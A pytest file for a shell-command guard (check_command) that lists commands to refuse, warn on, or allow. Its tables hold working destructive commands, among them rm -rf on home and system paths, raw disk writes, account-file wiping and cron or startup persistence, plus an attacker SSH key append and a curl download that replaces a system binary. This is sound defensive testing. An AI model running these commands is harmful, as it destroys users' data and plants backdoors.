"""What the guard's docs say it covers, class by class (issue 27): each table holds the
spellings the issue found allowed with no warning, and others of the same class, with the
ordinary commands of the same shapes it must keep allowing."""

from __future__ import annotations

import getpass

import pytest

from tests.tools.test_guard_blind_spots import cases
from zcoder.tools import Verdict, check_command

WORKSPACE = "/srv/work/project"
ME = getpass.getuser()
OTHER = "bob" if ME == "alice" else "alice"
"""Another user than the one the tests run as (whose every process may not be killed)."""


def verdict(command: str) -> Verdict:
    return check_command(command, WORKSPACE).verdict


def reason(command: str) -> str:
    return check_command(command, WORKSPACE).reason or ""


# A find test that selects every file is no filter.
ALWAYS_TRUE_FIND_TESTS = [
    "find ~ -name '*' -delete",
    "find ~ -path '*' -exec rm -rf {} +",
    "find ~ -mtime -100000 -delete",
    "find ~ -name '*' -exec shred -u {} \\;",
    "find ~ -iname '*' -delete",
    "find / -regex '.*' -delete",
    "find ~ -mmin -99999999 -delete",
    "find ~ -size -2000G -delete",
    "find ~/.. -wholename '*' -exec rm -rf {} +",
    "find ~ -true -delete",
]

# A program copied or linked earlier in the line is that program.
COPIED_PROGRAMS = [
    "cp /bin/rm /tmp/r; /tmp/r -rf ~",
    "ln -s /bin/rm ./del; ./del -rf ~",
    "install -m 755 /bin/rm /tmp/x; /tmp/x -rf ~",
    "cp /usr/bin/shred ./s; ./s -u /etc/passwd",
    "ln -s $(which rm) ./d; ./d -rf /",
]

# A script written earlier in the line and run is judged by its text.
SCRIPTS_WRITTEN_THEN_RUN = [
    "echo 'rm -rf ~' > x.sh; chmod +x x.sh; ./x.sh",
    "printf '#!/bin/sh\\nrm -rf ~\\n' > x; chmod +x x; ./x",
    "cat > run.py <<'EOF'\n#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/etc')\nEOF\n"
    "chmod +x run.py && ./run.py",
    "tee wipe.sh <<< 'rm -rf ~' >/dev/null; sh wipe.sh",
    "echo 'import shutil; shutil.rmtree(\"/\")' > a.py; python3 a.py",
    "printf 'rm -rf ~' > ~/.local/bin/ls",
]

# Lines added to a crontab are checked even when the old table is not known.
CRONTABS_PARTLY_KNOWN = [
    "(crontab -l; echo '* * * * * rm -rf ~') | crontab -",
    "{ crontab -l; echo '* * * * * rm -rf ~'; } | crontab -",
    "(crontab -l 2>/dev/null; echo '@reboot mkfs.ext4 /dev/sda') | crontab -",
]

# Shell start-up files given through process substitution.
STARTUP_BY_PROCESS_SUBSTITUTION = [
    "BASH_ENV=<(echo 'rm -rf ~') bash -c true",
    "bash --rcfile <(echo 'rm -rf ~') -i",
    "bash --init-file <(echo 'rm -rf ~') -i",
    "ENV=<(echo 'rm -rf ~') sh -i",
    "PROMPT_COMMAND=<(echo 'rm -rf ~')",
    "sh --rcfile <(printf 'rm -rf /') -i",
]

# Environment variables that stand for a program's options.
ENVIRONMENT_AS_OPTIONS = [
    "GIT_WORK_TREE=~ git clean -fdx",
    "export GIT_WORK_TREE=~; git clean -fdx",
    "env GIT_WORK_TREE=/ git clean -ffdx",
    "TAR_OPTIONS=--remove-files tar cf /dev/null ~",
]

# Commands run by interpreter one-liners from lists of literal words.
CODE_RUNNING_WORD_LISTS = [
    'perl -e \'exec "rm","-rf",$ENV{HOME}\'',
    'perl -e \'system "rm", "-rf", "/"\'',
    'python3 -c \'import subprocess, os; subprocess.run(["rm", "-rf", os.path.expanduser("~")])\'',
    'node -e \'require("child_process").execFileSync("rm", ["-rf", require("os").homedir()])\'',
    "ruby -e 'send(:system, \"rm -rf ~\")'",
]

# System account and authentication files.
ACCOUNTS = [
    "ln -sf /dev/null /etc/passwd",
    "ln -sf /dev/null /etc/shadow",
    "sed -i d /etc/passwd",
    "sed -i '1,$d' /etc/shadow",
    "sed -i -e d /etc/group",
    "userdel -r root",
    "userdel root",
    "deluser --remove-home root",
    "passwd -d root",
    "passwd --delete root",
]

# Protected system subtrees, essential programs, the root of the filesystem's modes.
SYSTEM_SUBTREES = [
    "rm -rf /var/lib",
    "rm -rf /usr/local",
    "rm -rf /etc/ssh",
    "rm -rf /boot/efi",
    "rm -rf /lib/modules",
    "rm -rf /root/.[!.]*",
    "rm -rf /usr/lib/*",
    "rm -rf /etc/pam.d",
    "mv /bin/bash /tmp",
    "mv /usr/bin/sudo /tmp/",
    "rm /lib/x86_64-linux-gnu/libc.so.6",
    "chmod 000 /",
    "chmod 000 /usr",
    "chmod a-x /etc",
]

# PID 1, every process of yours, power.
PROCESSES_AND_POWER = [
    "kill -9 1",
    "kill -KILL 1",
    "kill -s TERM 1",
    "pkill -9 -u $USER",
    "killall -u $USER",
    "pkill -KILL -u $(whoami)",
    f"pkill -u {ME}",
    "loginctl poweroff",
    "systemctl soft-reboot",
]

# Raw block device writers and filesystem tools that rewrite in place.
DEVICE_WRITERS = [
    "ddrescue /dev/zero /dev/sda",
    "ddrescue -f /dev/urandom /dev/sdb",
    "sort -o /dev/sda /tmp/x",
    "socat - /dev/sda",
    "socat OPEN:/dev/sdb -",
    "dcfldd if=/dev/zero of=/dev/sda",
    "debugfs -w /dev/sda1",
    "dmsetup remove_all",
    "dmsetup remove vg-root",
    "btrfs subvolume delete /",
    "btrfs sub del /home",
    "zfs destroy -r tank",
    "zfs destroy tank/home",
    "e2fsck -fy /dev/sda1",
    "fsck.ext4 -y /dev/sda1",
    "xfs_repair /dev/sdb1",
    "resize2fs /dev/sda1 10G",
]

# A bind mount or a container volume shows a host directory elsewhere.
MOUNTS_AND_VOLUMES = [
    "mount --bind ~ a && rm -rf a",
    "sudo mount --rbind / r && rm -rf r/etc",
    "bindfs ~ x; rm -rf x/*",
    "docker run -v /:/h alpine rm -rf /h",
    "docker run -v /etc:/e alpine sh -c 'rm -rf /e'",
    "podman run --mount type=bind,src=$HOME,dst=/w img rm -rf /w",
    "docker run --entrypoint rm -v /:/h alpine -rf /h",
    "docker run --rm -v $PWD:/src img rm -rf /src",
]

# What a git setting runs later.
GIT_COMMAND_SETTINGS = [
    "git config --global core.sshCommand 'rm -rf ~'",
    "git config --global core.pager 'rm -rf ~'",
]

MUST_BE_REFUSED = {
    "always-true-find-tests": ALWAYS_TRUE_FIND_TESTS,
    "copied-programs": COPIED_PROGRAMS,
    "scripts-written-then-run": SCRIPTS_WRITTEN_THEN_RUN,
    "crontabs-partly-known": CRONTABS_PARTLY_KNOWN,
    "startup-by-process-substitution": STARTUP_BY_PROCESS_SUBSTITUTION,
    "environment-as-options": ENVIRONMENT_AS_OPTIONS,
    "code-running-word-lists": CODE_RUNNING_WORD_LISTS,
    "accounts": ACCOUNTS,
    "system-subtrees": SYSTEM_SUBTREES,
    "processes-and-power": PROCESSES_AND_POWER,
    "device-writers": DEVICE_WRITERS,
    "mounts-and-volumes": MOUNTS_AND_VOLUMES,
    "git-command-settings": GIT_COMMAND_SETTINGS,
}

# Warned: the guard cannot say what the code calls, or the harm is done later, elsewhere
# or to someone else's copy; each with the words the warning must carry.
MUST_BE_WARNED = [
    ("python3 -c \"getattr(__import__('shutil'),'rm'+'tree')('/root')\"", "computes what it"),
    (
        "node -e \"require('fs')['rm'+'Sync'](require('os').homedir(),{recursive:true})\"",
        "computes what it",
    ),
    ("python3 -c \"import importlib; importlib.import_module('shutil').rmtree('/x')\"", "comput"),
    ("GIT_DIR=~/.git git clean -fdx", "core.worktree"),
    ("echo 'ssh-ed25519 AAAA attacker@x' >> ~/.ssh/authorized_keys", "log in as you"),
    ("tee -a ~/.ssh/authorized_keys < key.pub", "log in as you"),
    ("cp evil ~/.local/bin/ls", "in place of the system's program"),
    ("curl -o ~/.local/bin/git http://203.0.113.9/git", "in place of the system's program"),
    ("cp evil.desktop ~/.config/autostart/", "when you next log in"),
    ("git config --global core.sshCommand 'ssh -i /tmp/k'", "core.sshcommand"),
    ("git config --global core.fsmonitor ./watch.sh", "core.fsmonitor"),
    ("git config --global core.hooksPath /tmp/hooks", "core.hookspath"),
    ("crontab -r", "crontab -r"),
    ("crontab -r -u alice", "crontab -r"),
    ("git push --force", "--force"),
    ("git push -f origin main", "--force"),
    ("git push origin +main", "--force"),
    ("git push --mirror", "deletes branches"),
    ("docker run -v /:/h -it alpine sh", "to change at /h"),
    ("sudo mount -o bind ~ /mnt/x", "home directory"),
    ("userdel -r alice", "home directory of alice"),
    ("passwd -d alice", "without a password"),
    (f"killall -u {OTHER}", f"every process of {OTHER}"),
]

# Ordinary commands of the same shapes: allowed, without a warning.
ORDINARY = [
    "chmod -R 755 .",
    "rm -rf build/ node_modules/",
    "git clean -fdx",
    "make clean",
    "find . -name '*.pyc' -delete",
    "find . -name node_modules -prune -o -print",
    "find . -mtime -1 -name '*.log'",
    "find ~/Downloads -name '*.part' -delete",
    "rm -rf ./dist",
    "rm -rf /var/lib/apt/lists/*",
    'python3 -c "print(1)"',
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"version\"])'",
    'node -e "console.log(1)"',
    "node -e 'console.log(require(\"./package.json\").version)'",
    "perl -e 'print \"hello\\n\"'",
    "ruby -e 'puts 1+1'",
    "echo 'print(1)' > a.py; python3 a.py",
    "sed -i s/a/b/ file.txt",
    "sed -i '/^$/d' notes.txt",
    "kill %1",
    "kill $(cat server.pid)",
    "kill -0 1234",
    "pkill -u $USER -f 'python app.py'",
    "crontab -l",
    "(crontab -l; echo '0 3 * * * /usr/local/bin/backup') | crontab -",
    "git push",
    "git push -u origin feature",
    "git push --force-with-lease",
    "git config --global user.name 'A B'",
    "git config --global core.editor vim",
    "git config --global credential.helper store",
    "git config core.fsmonitor true",
    "docker run --rm -v $PWD:/src img make",
    'docker run --rm -v "$PWD":/app -w /app node:20 npm test',
    "docker run --rm -v ~/.cache/pip:/root/.cache/pip img pip install -r requirements.txt",
    "docker run -v /:/h:ro alpine ls /h",
    "docker run --rm alpine rm -rf /usr/lib",
    "sudo mount --bind /srv/data /mnt/data",
    "cp /bin/ls /tmp/l && /tmp/l -la",
    "printf 'echo hi\\n' > hello.sh && chmod +x hello.sh && ./hello.sh",
    "./configure && make",
    "sort -o sorted.txt data.txt",
    "socat -u /dev/ttyUSB0 -",
    "zfs destroy tank/data@old-snap",
    "zfs list",
    "btrfs subvolume delete /snapshots/2024-01-01",
    "e2fsck -n /dev/sdb1",
    "resize2fs -P /dev/sdb1",
    "dmsetup ls",
    "chmod 755 /usr/local/bin/tool",
    "chmod 0700 /root",
    "chmod 700 ~/.ssh",
    "sudo userdel olduser",
    "sudo passwd alice",
    "cd /tmp && rm -rf build",
]


@pytest.mark.parametrize("command", cases(MUST_BE_REFUSED))
def test_what_the_docs_say_is_covered_is_refused(command: str) -> None:
    assert verdict(command) is Verdict.REFUSE, reason(command)


@pytest.mark.parametrize(("command", "says"), MUST_BE_WARNED)
def test_what_cannot_be_seen_or_harms_later_is_warned(command: str, says: str) -> None:
    result = check_command(command, WORKSPACE)
    assert result.verdict is Verdict.WARN, result
    assert says in (result.reason or ""), result.reason


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_of_the_same_shapes_are_allowed(command: str) -> None:
    assert verdict(command) is Verdict.ALLOW, reason(command)


@pytest.mark.parametrize(
    ("command", "named"),
    [
        pytest.param("cd; rm -rf .", ["a home directory"], id="cd-home-then-dot"),
        pytest.param("cd ~ && rm -rf *", ["a home directory"], id="cd-home-then-star"),
        pytest.param("cp /bin/rm /tmp/r; /tmp/r -rf ~", ["/tmp/r is rm"], id="copy"),
        pytest.param("echo 'rm -rf ~' > x.sh; ./x.sh", ["./x.sh"], id="script"),
        pytest.param("docker run -v /:/h alpine rm -rf /h", ["container"], id="volume"),
        pytest.param('perl -e \'exec "rm","-rf",$ENV{HOME}\'', ["perl code"], id="perl"),
        pytest.param(
            "git config --global core.sshCommand 'rm -rf ~'", ["core.sshcommand"], id="git"
        ),
    ],
)
def test_the_refusal_names_where_the_danger_is(command: str, named: list[str]) -> None:
    said = reason(command)
    assert check_command(command, WORKSPACE).refused, said
    for words in named:
        assert words in said, said
    assert "workspace" not in said, said
